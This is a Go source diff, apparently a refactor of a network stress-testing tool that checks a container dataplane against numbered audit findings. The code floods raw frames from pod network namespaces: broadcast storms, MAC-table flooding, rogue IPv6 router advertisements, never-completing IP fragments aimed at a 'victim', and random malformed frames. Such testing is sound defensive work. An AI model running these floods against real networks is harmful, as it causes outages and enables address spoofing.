@@ -21,8 +21,8 @@ type wire struct {
 	mac net.HardwareAddr
 }
 
-func openWire(o orders, link string) (w wire, err error) {
-	err = netns.Do(o.Netns, func() error {
+func openWire(t target, link string) (w wire, err error) {
+	err = netns.Do(t.Netns, func() error {
 		i, err := net.InterfaceByName(link)
 		if err != nil {
 			return err
@@ -37,9 +37,9 @@ func openWire(o orders, link string) (w wire, err error) {
 	return w, err
 }
 
-// flood sends what next makes until ctx ends.
-func flood(ctx context.Context, o campaign, link string, next func(w wire) ([]byte, error)) error {
-	w, err := openWire(o.orders, link)
+// flood sends the frames of next until ctx ends.
+func flood(ctx context.Context, j job, link string, next func(w wire) ([]byte, error)) error {
+	w, err := openWire(j.target, link)
 	if err != nil {
 		return err
 	}
@@ -50,7 +50,7 @@ func flood(ctx context.Context, o campaign, link string, next func(w wire) ([]by
 			return err
 		}
 		if _, err := unix.Write(w.fd, frame); err == nil {
-			o.underWay()
+			j.underWay()
 		}
 	}
 	return nil
@@ -65,29 +65,29 @@ func serialize(all ...gopacket.SerializableLayer) ([]byte, error) {
 var broadcastMAC = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
 
 // broadcasts: finding 9.
-func broadcasts(ctx context.Context, o campaign) error {
-	return flood(ctx, o, "x0", func(w wire) ([]byte, error) {
+func broadcasts(ctx context.Context, j job) error {
+	return flood(ctx, j, "x0", func(w wire) ([]byte, error) {
 		return append(append(append([]byte{}, broadcastMAC...), w.mac...), make([]byte, 48)...), nil
 	})
 }
 
-// randomMACs fills the tables in which the dataplane learns, and has it flood.
-func randomMACs(ctx context.Context, o campaign) error {
+// randomMACs fills the dataplane's MAC tables and makes it flood.
+func randomMACs(ctx context.Context, j job) error {
 	random := rand.New(rand.NewPCG(5, 6))
-	return flood(ctx, o, "x0", func(wire) ([]byte, error) {
+	return flood(ctx, j, "x0", func(wire) ([]byte, error) {
 		frame := make([]byte, 60)
-		noise(frame[:12], random)
+		randomise(frame[:12], random)
 		frame[0], frame[6] = 2, 2
 		return frame, nil
 	})
 }
 
-// attackersLinkLocal is where advertisements come from.
+// attackersLinkLocal is the source address of the advertisements.
 var attackersLinkLocal = netip.MustParseAddr("fe80::bad")
 
 // routerAdvertisements: finding 7.
-func routerAdvertisements(ctx context.Context, o campaign) error {
-	return flood(ctx, o, "x0", func(w wire) ([]byte, error) {
+func routerAdvertisements(ctx context.Context, j job) error {
+	return flood(ctx, j, "x0", func(w wire) ([]byte, error) {
 		pause(ctx, 10_000_000)
 		ip := &layers.IPv6{Version: 6, HopLimit: 255, NextHeader: layers.IPProtocolICMPv6,
 			SrcIP: attackersLinkLocal.AsSlice(), DstIP: net.ParseIP("ff02::1")}
@@ -96,7 +96,7 @@ func routerAdvertisements(ctx context.Context, o campaign) error {
 			return nil, err
 		}
 		prefix := make([]byte, 30)
-		prefix[0], prefix[1] = 64, 0xc0 // on the link, and to make addresses of
+		prefix[0], prefix[1] = 64, 0xc0 // flags: on-link, autonomous
 		binary.BigEndian.PutUint32(prefix[2:], 3600)
 		binary.BigEndian.PutUint32(prefix[6:], 3600)
 		copy(prefix[14:], advertised.Addr().AsSlice())
@@ -107,26 +107,26 @@ func routerAdvertisements(ctx context.Context, o campaign) error {
 	})
 }
 
-// own is the pod's main interface: its address, and the gateway's MAC.
+// toGateway returns the Ethernet layer of a packet to the gateway.
 func (w wire) toGateway() *layers.Ethernet {
 	return &layers.Ethernet{SrcMAC: w.mac, DstMAC: broadcastMAC, EthernetType: layers.EthernetTypeIPv4}
 }
 
-// fragments of packets to a victim that are never complete.
-func fragments(ctx context.Context, o campaign) error {
+// fragments sends fragments of packets that are never complete to a victim.
+func fragments(ctx context.Context, j job) error {
 	random := rand.New(rand.NewPCG(7, 8))
-	return flood(ctx, o, "eth0", func(w wire) ([]byte, error) {
+	return flood(ctx, j, "eth0", func(w wire) ([]byte, error) {
 		return serialize(w.toGateway(), &layers.IPv4{
 			Version: 4, TTL: 64, Id: uint16(random.Uint32()), Flags: layers.IPv4MoreFragments, FragOffset: uint16(random.IntN(1000)),
-			Protocol: layers.IPProtocolUDP, SrcIP: net.IPv4(10, 1, 0, byte(random.Uint32())), DstIP: o.Neighbour.Addr().AsSlice(),
+			Protocol: layers.IPProtocolUDP, SrcIP: net.IPv4(10, 1, 0, byte(random.Uint32())), DstIP: j.Neighbour.Addr().AsSlice(),
 		}, gopacket.Payload(make([]byte, 64)))
 	})
 }
 
-// unresolvedNeighbours has the pod's kernel send to addresses that do not exist.
-func unresolvedNeighbours(ctx context.Context, o campaign) error {
+// unresolvedNeighbours sends to addresses that do not exist, from the pod's kernel.
+func unresolvedNeighbours(ctx context.Context, j job) error {
 	var socket *net.UDPConn
-	err := netns.Do(o.Netns, func() (err error) {
+	err := netns.Do(j.Netns, func() (err error) {
 		socket, err = net.ListenUDP("udp4", nil)
 		return err
 	})
@@ -140,18 +140,18 @@ func unresolvedNeighbours(ctx context.Context, o campaign) error {
 			to := netip.AddrFrom4([4]byte{subnet[0], subnet[1], byte(random.Uint32()), byte(random.Uint32())})
 			_, _ = socket.WriteToUDPAddrPort([]byte("x"), netip.AddrPortFrom(to, 9))
 		}
-		o.underWay()
+		j.underWay()
 	}
 	return nil
 }
 
-// randomFrames are of every type and of no sense.
-func randomFrames(ctx context.Context, o campaign) error {
+// randomFrames sends random frames of several EtherTypes.
+func randomFrames(ctx context.Context, j job) error {
 	random := rand.New(rand.NewPCG(11, 12))
 	types := []uint16{0x0800, 0x86dd, 0x0806, 0x8100, 0x88a8, 0x8847}
-	return flood(ctx, o, "x0", func(w wire) ([]byte, error) {
+	return flood(ctx, j, "x0", func(w wire) ([]byte, error) {
 		frame := make([]byte, 14+random.IntN(1400))
-		noise(frame, random)
+		randomise(frame, random)
 		copy(frame[6:], w.mac)
 		binary.BigEndian.PutUint16(frame[12:], types[random.IntN(len(types))])
 		if len(frame) > 14 && random.IntN(2) == 0 {
